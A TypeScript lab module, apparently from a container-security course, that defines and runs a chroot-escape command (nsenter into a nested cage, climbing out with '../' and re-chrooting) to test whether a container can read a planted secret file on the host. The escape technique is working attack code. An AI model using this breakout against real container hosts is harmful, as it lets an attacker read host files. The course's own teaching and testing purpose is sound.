/** The way out of a chroot. Lesson 1 shows that it works, lesson 2 that it doesn't any more. */
import { join } from 'node:path';
import type { Lab } from '../../src/course/check.ts';
import { random, secretBeside } from '../../src/course/probes.ts';

/** Exit status of a container that stands on another root than the one it was given. */
export const WRONG_ROOT = 98;
/** Exit status where the root folder has no nsenter, so that the way can't be tried. */
export const NO_NSENTER = 99;

// Twice as deep as any root folder lies; `..` of the real root does no harm.
const up = '../'.repeat(40);

/**
 * Reads two lines: the name of a file that must be in its `/` (or it would make its cage on the host), and the path
 * of a file on the host. Prints that file if it gets out. The cage needs programs: nsenter starts a shell in it.
 */
const escapeCommand = [
  'sh',
  '-c',
  `
  read -r mark && read -r file && [ -e "/$mark" ] || exit ${WRONG_ROOT}
  command -v nsenter >/dev/null || exit ${NO_NSENTER}
  cage=/$mark.cage
  mkdir "$cage" && cp -a /bin /lib /lib64 "$cage" &&
    exec nsenter -r"$cage" -w/ sh -c 'cd -P ${up} && exec chroot . cat "$0"' "$file"
  `,
];

/** Sends a container on that way, to read a file of the host's. */
export async function tryEscape(lab: Lab) {
  const mark = random();
  const container = await lab.start(escapeCommand);
  lab.write(join(container.rootfs, mark), '');
  const secret = secretBeside(lab, container, mark);
  container.stdin.end(`${mark}\n${secret.file}\n`);
  const exit = await container.exit;
  return {
    secret: secret.file,
    got: container.stdout().includes(secret.text),
    // cat itself complains, by the name of the file.
    missed: container.stderr().includes(secret.file) && !container.stdout().includes(secret.text),
    status: 'code' in exit ? exit.code : undefined,
    said: `${JSON.stringify(exit)} ${container.stdout()}${container.stderr()}`,
  };
}
